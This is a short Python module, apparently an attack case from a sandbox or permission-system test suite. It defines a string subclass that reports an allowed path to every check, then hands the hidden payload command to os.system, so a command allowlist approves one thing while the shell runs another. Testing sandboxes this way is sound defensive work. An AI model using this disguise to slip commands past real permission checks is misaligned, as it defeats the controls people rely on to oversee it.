"""The same str as a shell's command."""
CATEGORY = "races"
REACH = "run"
GRANT = {"run": ["true"]}

import os

from . import payload

FREE = payload.ROOT + "/home/free"


class Path(str):
    """Says that it is somebody else, whatever it is asked."""

    def encode(self, *args):
        return FREE.encode()

    __str__ = __repr__ = __fspath__ = lambda self: FREE
    __getitem__ = lambda self, at: FREE[at]
    __len__ = lambda self: len(FREE)
    __eq__ = lambda self, other: other == FREE
    __hash__ = lambda self: hash(FREE)
    startswith = lambda self, *args: FREE.startswith(*args)


def attack():
    path = Path(payload.COMMAND)
    os.system(path)
